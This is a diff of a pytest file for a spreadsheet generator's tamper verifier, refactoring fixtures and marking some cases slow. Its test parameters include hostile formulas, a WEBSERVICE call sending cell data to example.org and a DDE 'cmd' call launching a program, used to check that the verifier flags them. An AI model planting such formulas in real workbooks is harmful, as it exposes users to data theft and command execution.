@@ -12,6 +12,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
+from by_specs import ROOT, compiled
 from conftest import falsify_cached_values, rewrite
 from openpyxl import load_workbook
 from openpyxl.styles import PatternFill
@@ -23,14 +24,13 @@ from sheetgen.cmd import cli
 from sheetgen.proof.engines import libreoffice
 from sheetgen.proof.report import Report
 
-ROOT = Path(__file__).parents[1]
 NAMES = ("backpropagation", "gcn")
 
 
 @pytest.fixture(scope="module")
 def made(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     folder = tmp_path_factory.mktemp("made")
-    files = {name: sheetgen.compile(ROOT / "specs" / f"{name}.yaml").save(folder / f"{name}.xlsx") for name in NAMES}
+    files = {name: compiled(name).save(folder / f"{name}.xlsx") for name in NAMES}
     text = (ROOT / "specs" / "backpropagation.yaml").read_text(encoding="utf-8") + "\nformulas: blocks\n"
     files["blocks"] = sheetgen.compile_text(text, base=ROOT / "specs").save(folder / "blocks.xlsx")
     return files
@@ -138,7 +138,7 @@ def test_number_formats_42_written_into_the_styles(file: Path) -> None:
     assert kinds(report) <= {"number format", "rule's look"} and '"42"' in report.changes[0].found
 
 
-@pytest.mark.parametrize("through_openpyxl", [False, True])
+@pytest.mark.parametrize("through_openpyxl", [False, pytest.param(True, marks=pytest.mark.slow)])
 @pytest.mark.parametrize("text", ["Backpropagation", "Forward pass: the input runs through three layers", "Layer 2"])
 def test_a_changed_title_sentence_or_label(file: Path, text: str, through_openpyxl: bool) -> None:
     if through_openpyxl:
@@ -164,7 +164,7 @@ def test_a_moved_defined_name(file: Path) -> None:
 @pytest.mark.parametrize(
     "formula", ['=WEBSERVICE("http://example.org/?"&W1_)', "=cmd|'/c calc'!A0", "=SUM(W1_)", "=[1]Other!A1"]
 )
-@pytest.mark.parametrize("place", ["ZZ9", "A1"])
+@pytest.mark.parametrize("place", ["ZZ9", pytest.param("A1", marks=pytest.mark.slow)])
 def test_an_extra_formula(file: Path, formula: str, place: str) -> None:
     def change(book) -> None:
         book["Canvas"][place] = formula
@@ -175,7 +175,7 @@ def test_an_extra_formula(file: Path, formula: str, place: str) -> None:
     assert (extra.what, extra.where, extra.found) == ("formula", f"Canvas!{place}", formula)
 
 
-@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
+@pytest.mark.parametrize("state", ["veryHidden", pytest.param("hidden", marks=pytest.mark.slow)])
 def test_an_extra_hidden_sheet(file: Path, state: str) -> None:
     def change(book) -> None:
         book.create_sheet("More").sheet_state = state
@@ -247,7 +247,7 @@ def test_a_changed_look_is_grouped(file: Path) -> None:
 # No fault
 
 
-@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("name", ["gcn", pytest.param("backpropagation", marks=pytest.mark.slow)])
 def test_saved_by_openpyxl(name: str, made: dict[str, Path], tmp_path: Path) -> None:
     report = sheetgen.verify_workbook(saved(Path(shutil.copy(made[name], tmp_path / "saved.xlsx")), lambda book: None))
     assert report.ok and report.saved_by == "another program" and not report.notes
